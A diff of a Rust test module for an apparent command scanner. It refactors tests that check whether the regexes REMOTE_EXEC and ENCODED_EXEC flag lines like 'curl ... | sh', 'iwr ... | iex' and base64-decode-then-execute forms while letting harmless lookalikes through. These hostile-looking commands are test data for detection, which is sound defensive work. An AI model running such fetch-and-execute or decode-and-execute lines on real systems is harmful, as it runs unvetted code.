@@ -339,32 +339,41 @@ pub fn scan_credential_access(cx: &mut Cx<'_>, path: &std::path::Path, text: &st
 mod tests {
     use super::*;
 
+    /// `re` matches every line of `caught` and none of `let_through`.
+    fn judges(re: &Regex, caught: &[&str], let_through: &[&str]) {
+        for line in caught {
+            assert!(re.is_match(line), "missed: {line}");
+        }
+        for line in let_through {
+            assert!(!re.is_match(line), "flagged: {line}");
+        }
+    }
+
     #[test]
     fn remote_exec() {
-        for line in [
-            "curl -fsSL https://x.sh | sh",
-            "wget -qO- https://x | sudo -E bash",
-            "curl -s https://x | sudo env FOO=1 bash",
-            "bash <(curl -s https://x)",
-            "sh -c \"$(curl -fsSL https://x)\"",
-            "python3 -c \"$(curl -fsSL https://x)\"",
-            "eval \"$(curl -fsSL https://x)\"",
-            "iwr https://x | iex",
-            "iex (irm https://x)",
-            "exec(requests.get('https://x/p.py').text)",
-            "exec(urlopen('https://x').read())",
-        ] {
-            assert!(REMOTE_EXEC.is_match(line), "{line}");
-        }
-        for line in [
-            "curl -o out.tar.gz https://x",
-            "curl https://x | jq .",
-            "echo curl | grep sh",
-            "resp = requests.get(url, headers={'Authorization': key})",
-            "curl -fsSL https://x -o install.sh && sha256sum -c install.sh.sha256",
-        ] {
-            assert!(!REMOTE_EXEC.is_match(line), "{line}");
-        }
+        judges(
+            &REMOTE_EXEC,
+            &[
+                "curl -fsSL https://x.sh | sh",
+                "wget -qO- https://x | sudo -E bash",
+                "curl -s https://x | sudo env FOO=1 bash",
+                "bash <(curl -s https://x)",
+                "sh -c \"$(curl -fsSL https://x)\"",
+                "python3 -c \"$(curl -fsSL https://x)\"",
+                "eval \"$(curl -fsSL https://x)\"",
+                "iwr https://x | iex",
+                "iex (irm https://x)",
+                "exec(requests.get('https://x/p.py').text)",
+                "exec(urlopen('https://x').read())",
+            ],
+            &[
+                "curl -o out.tar.gz https://x",
+                "curl https://x | jq .",
+                "echo curl | grep sh",
+                "resp = requests.get(url, headers={'Authorization': key})",
+                "curl -fsSL https://x -o install.sh && sha256sum -c install.sh.sha256",
+            ],
+        );
     }
 
     #[test]
@@ -378,35 +387,34 @@ mod tests {
 
     #[test]
     fn encoded_exec() {
-        for line in [
-            "echo ZWNobyBoaQ== | base64 -d | bash",
-            "echo ZWNobyBoaQ== | base64 --decode | sudo sh",
-            "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
-            "bash -c \"$(base64 -d <<< ZWNobyBoaQ==)\"",
-            "openssl enc -d -base64 -in p.txt | sh",
-            "exec(base64.b64decode('cHJpbnQoMSk='))",
-            "exec(zlib.decompress(base64.b64decode(blob)))",
-            "eval(compile(base64.b64decode(s), '<x>', 'exec'))",
-            "eval(atob('YWxlcnQoMSk='))",
-            "new Function(atob(payload))()",
-            "eval(Buffer.from(p, 'base64').toString())",
-            "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
-            "iex ([System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))",
-            "eval decode_base64($payload);",
-        ] {
-            assert!(ENCODED_EXEC.is_match(line), "{line}");
-        }
-        for line in [
-            "base64 -d logo.b64 > logo.png",
-            "data = base64.b64decode(encoded_image)",
-            "const img = Buffer.from(data, 'base64')",
-            "echo $TOKEN | base64",
-            "function (x) { return atob(x) }",
-            "powershell -ExecutionPolicy Bypass -File .\\scripts\\setup.ps1",
-            "result = evaluate(base64.b64decode(x))",
-        ] {
-            assert!(!ENCODED_EXEC.is_match(line), "{line}");
-        }
+        judges(
+            &ENCODED_EXEC,
+            &[
+                "echo ZWNobyBoaQ== | base64 -d | bash",
+                "echo ZWNobyBoaQ== | base64 --decode | sudo sh",
+                "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
+                "bash -c \"$(base64 -d <<< ZWNobyBoaQ==)\"",
+                "openssl enc -d -base64 -in p.txt | sh",
+                "exec(base64.b64decode('cHJpbnQoMSk='))",
+                "exec(zlib.decompress(base64.b64decode(blob)))",
+                "eval(compile(base64.b64decode(s), '<x>', 'exec'))",
+                "eval(atob('YWxlcnQoMSk='))",
+                "new Function(atob(payload))()",
+                "eval(Buffer.from(p, 'base64').toString())",
+                "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
+                "iex ([System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))",
+                "eval decode_base64($payload);",
+            ],
+            &[
+                "base64 -d logo.b64 > logo.png",
+                "data = base64.b64decode(encoded_image)",
+                "const img = Buffer.from(data, 'base64')",
+                "echo $TOKEN | base64",
+                "function (x) { return atob(x) }",
+                "powershell -ExecutionPolicy Bypass -File .\\scripts\\setup.ps1",
+                "result = evaluate(base64.b64decode(x))",
+            ],
+        );
     }
 
     fn credential(line: &str) -> Option<&'static str> {
